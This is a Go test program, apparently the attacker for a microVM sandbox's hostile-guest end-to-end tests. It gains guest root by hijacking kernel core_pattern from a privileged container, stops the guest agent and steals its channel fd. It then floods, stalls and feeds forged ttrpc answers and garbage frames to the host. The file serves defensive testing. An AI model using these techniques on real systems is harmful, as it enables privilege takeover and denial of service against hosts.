// Command hostileguest is the attacker of the hostile-guest e2e tests
// (test/e2e/hostile_guest_test.go). It is not part of msb.
//
// A privileged container's process writes "|/proc/%P/root/hg/hostileguest %P"
// to /proc/sys/kernel/core_pattern and crashes: the guest kernel runs this
// program as root with every capability in the guest's initial namespaces,
// which is what a kernel exploit gives as well. It then takes the agent's
// channel over the way guest root can: it stops the agent (SIGSTOP) and
// takes a copy of its virtio-serial fd (pidfd_getfd), and from then on it
// is the guest's end of the yamux session the host's VMM holds. What it
// does there is read from hg/attack.args in the crashing container's root:
//
//	stall            read and drop everything; answer nothing
//	streams N        open N streams to the host, the first 300 with a
//	                 window (256 KiB) of data each, then stall
//	oom VICTIM       answer every ttrpc call the host makes: OOMEvents with
//	                 100 events for VICTIM and 100 for the caller's own
//	                 container, every other call with an empty success;
//	                 then 2000 answers to calls never made; then stall
//	frames           send an oversize data frame, then garbage
//	ack              answer every ttrpc call the host makes with an empty
//	                 success (a kill included) but OOMEvents, which it
//	                 leaves unanswered: no exit is ever reported
//
// It logs to hg/attack.log there.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/containerd/ttrpc"
	"golang.org/x/sys/unix"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/wrapperspb"
)

var logf = func(format string, args ...any) { fmt.Fprintf(os.Stderr, format+"\n", args...) }

func main() {
	if len(os.Args) < 2 {
		logf("usage: hostileguest PID (run as the kernel's core_pattern helper)")
		os.Exit(2)
	}
	root, err := os.Open("/proc/" + os.Args[1] + "/root/")
	if err != nil {
		os.Exit(1)
	}
	_, _ = io.Copy(io.Discard, os.Stdin) // the core dump: the crashing process goes
	if f, err := openIn(root, "hg/attack.log", os.O_CREATE|os.O_WRONLY|os.O_APPEND); err == nil {
		logf = func(format string, args ...any) {
			fmt.Fprintf(f, time.Now().Format("15:04:05.000 ")+format+"\n", args...)
		}
	}
	args, err := readIn(root, "hg/attack.args")
	if err != nil {
		logf("args: %v", err)
		os.Exit(1)
	}
	ch, err := takeChannel()
	if err != nil {
		logf("take the agent's channel: %v", err)
		os.Exit(1)
	}
	f := strings.Fields(args)
	logf("took the agent's channel: %v", f)
	a := &attacker{ch: ch, r: bufio.NewReaderSize(ch, 1<<20), streams: map[uint32]*hostStream{}}
	switch f[0] {
	case "stall":
		logf("ready")
		a.drop()
	case "streams":
		n, _ := strconv.Atoi(f[1])
		go a.drop()
		a.openStreams(n)
		logf("ready")
		select {}
	case "oom":
		a.victim = f[1]
		a.serve()
	case "ack":
		a.serve()
	case "frames":
		// Logged first: the host ends the session at the first frame, and
		// a write to a port the host no longer reads may block.
		logf("ready")
		a.frames()
		logf("sent the frames")
		a.drop()
	}
}

func openIn(root *os.File, name string, flags int) (*os.File, error) {
	fd, err := unix.Openat(int(root.Fd()), name, flags|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0o644)
	if err != nil {
		return nil, err
	}
	return os.NewFile(uintptr(fd), name), nil
}

func readIn(root *os.File, name string) (string, error) {
	f, err := openIn(root, name, os.O_RDONLY)
	if err != nil {
		return "", err
	}
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, 4096))
	return strings.TrimSpace(string(b)), err
}

// takeChannel stops the process that holds the agent's virtio-serial
// port and takes a copy of its fd.
func takeChannel() (*os.File, error) {
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		pid, _ := strconv.Atoi(filepath.Base(p))
		if pid == os.Getpid() {
			continue
		}
		fds, _ := os.ReadDir(p + "/fd")
		for _, e := range fds {
			l, _ := os.Readlink(p + "/fd/" + e.Name())
			if !strings.HasPrefix(l, "/dev/vport") {
				continue
			}
			fd, _ := strconv.Atoi(e.Name())
			if err := unix.Kill(pid, unix.SIGSTOP); err != nil {
				return nil, fmt.Errorf("stop %d: %w", pid, err)
			}
			pidfd, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				return nil, fmt.Errorf("pidfd_open %d: %w", pid, err)
			}
			nfd, err := unix.PidfdGetfd(pidfd, fd, 0)
			if err != nil {
				return nil, fmt.Errorf("pidfd_getfd %d/%d: %w", pid, fd, err)
			}
			logf("agent pid %d, channel fd %d (%s)", pid, fd, l)
			return os.NewFile(uintptr(nfd), l), nil
		}
	}
	return nil, fmt.Errorf("no process holds a /dev/vport*")
}

// yamux framing (github.com/hashicorp/yamux const.go).
const (
	typeData, typeWindowUpdate = 0, 1
	flagSYN, flagACK, flagFIN  = 1, 2, 4
)

type attacker struct {
	ch      *os.File
	r       *bufio.Reader
	wmu     sync.Mutex
	victim  string
	streams map[uint32]*hostStream
	seq     uint64
	ttrpcID uint32 // the yamux stream ttrpc calls came on
}

// hostStream is a stream the host opened: its bytes not parsed yet.
type hostStream struct {
	buf   []byte
	named bool // its header line is read (or it was open before)
	stdio bool
	acked bool
}

func (a *attacker) write(typ byte, flags uint16, id uint32, body []byte, length uint32) error {
	h := make([]byte, 12)
	h[1] = typ
	binary.BigEndian.PutUint16(h[2:4], flags)
	binary.BigEndian.PutUint32(h[4:8], id)
	binary.BigEndian.PutUint32(h[8:12], length)
	a.wmu.Lock()
	defer a.wmu.Unlock()
	_, err := a.ch.Write(append(h, body...))
	return err
}

// frame reads one frame of the host's: header fields and body.
func (a *attacker) frame() (typ byte, flags uint16, id uint32, body []byte, err error) {
	h := make([]byte, 12)
	if _, err = io.ReadFull(a.r, h); err != nil {
		return
	}
	typ, flags, id = h[1], binary.BigEndian.Uint16(h[2:4]), binary.BigEndian.Uint32(h[4:8])
	if typ == typeData {
		body = make([]byte, binary.BigEndian.Uint32(h[8:12]))
		_, err = io.ReadFull(a.r, body)
	}
	return
}

func (a *attacker) drop() {
	for {
		if _, _, _, _, err := a.frame(); err != nil {
			logf("channel: %v", err)
			time.Sleep(time.Hour)
		}
	}
}

func (a *attacker) openStreams(n int) {
	data := make([]byte, 256<<10)
	for i := 0; i < n; i++ {
		id := uint32(2 * (i + 1000))
		var body []byte
		if i < 300 {
			body = data
		}
		if err := a.write(typeData, flagSYN, id, body, uint32(len(body))); err != nil {
			logf("stream %d: %v", id, err)
			return
		}
	}
	logf("opened %d streams", n)
}

func (a *attacker) frames() {
	// A data frame far over any window on the host's control stream,
	// then bytes that are no frame at all.
	_ = a.write(typeData, 0, 1, make([]byte, 1024), 1<<30)
	_, _ = a.ch.Write([]byte("\xff\xff\xff\xffnot a yamux frame"))
}

// serve answers the host's ttrpc calls.
func (a *attacker) serve() {
	logf("ready")
	for {
		typ, flags, id, body, err := a.frame()
		if err != nil {
			logf("channel: %v", err)
			time.Sleep(time.Hour)
		}
		s := a.streams[id]
		if s == nil {
			s = &hostStream{named: flags&flagSYN == 0}
			a.streams[id] = s
		}
		if typ != typeData || len(body) == 0 {
			continue
		}
		// Let the host send on.
		_ = a.write(typeWindowUpdate, a.ackFlag(s), id, nil, uint32(len(body)))
		s.buf = append(s.buf, body...)
		if !s.named {
			i := strings.IndexByte(string(s.buf), '\n')
			if i < 0 {
				continue
			}
			s.named, s.stdio = true, strings.HasPrefix(string(s.buf), "stdio")
			s.buf = s.buf[i+1:]
			if s.stdio { // EOF on every stdio stream: no output
				_ = a.write(typeWindowUpdate, a.ackFlag(s)|flagFIN, id, nil, 0)
			}
		}
		if s.stdio {
			s.buf = nil
			continue
		}
		for len(s.buf) >= 10 {
			n := binary.BigEndian.Uint32(s.buf[0:4])
			if uint32(len(s.buf)) < 10+n {
				break
			}
			sid, mtyp, msg := binary.BigEndian.Uint32(s.buf[4:8]), s.buf[8], s.buf[10:10+n]
			s.buf = s.buf[10+n:]
			if mtyp == 1 {
				a.answer(id, s, sid, msg)
			}
		}
	}
}

// ackFlag is ACK on the first frame sent on a stream (the host opened
// it and waits for that), none after.
func (a *attacker) ackFlag(s *hostStream) uint16 {
	if s.acked {
		return 0
	}
	s.acked = true
	return flagACK
}

func (a *attacker) answer(id uint32, s *hostStream, sid uint32, msg []byte) {
	var req ttrpc.Request
	if err := proto.Unmarshal(msg, &req); err != nil {
		logf("request on %d/%d: %v", id, sid, err)
		return
	}
	var payload []byte
	if req.Method == "OOMEvents" && a.victim == "" {
		logf("OOMEvents on %d/%d: not answered", id, sid)
		return
	}
	if req.Method == "OOMEvents" {
		type ev struct {
			Seq uint64 `json:"seq"`
			ID  string `json:"id"`
		}
		var evs []ev
		for i := 0; i < 100; i++ {
			a.seq++
			evs = append(evs, ev{Seq: 1<<40 + a.seq, ID: a.victim})
			a.seq++
			evs = append(evs, ev{Seq: 1<<40 + a.seq})
		}
		b, _ := json.Marshal(evs)
		payload, _ = proto.Marshal(wrapperspb.Bytes(b))
		logf("OOMEvents on %d/%d: answered with %d forged events", id, sid, len(evs))
	} else {
		logf("%s.%s on %d/%d: answered", req.Service, req.Method, id, sid)
	}
	a.respond(id, sid, payload)
	if req.Method == "OOMEvents" && a.ttrpcID == 0 {
		a.ttrpcID = id
		// Answers to calls never made, on the same connection.
		for i := uint32(0); i < 2000; i++ {
			a.respond(id, 1<<30+2*i+1, nil)
		}
		logf("sent 2000 answers to calls never made on %d", id)
		a.drop() // and answers nothing more
	}
}

func (a *attacker) respond(id, sid uint32, payload []byte) {
	resp, _ := proto.Marshal(&ttrpc.Response{Payload: payload})
	m := make([]byte, 10, 10+len(resp))
	binary.BigEndian.PutUint32(m[0:4], uint32(len(resp)))
	binary.BigEndian.PutUint32(m[4:8], sid)
	m[8] = 2
	m = append(m, resp...)
	_ = a.write(typeData, 0, id, m, uint32(len(m)))
}
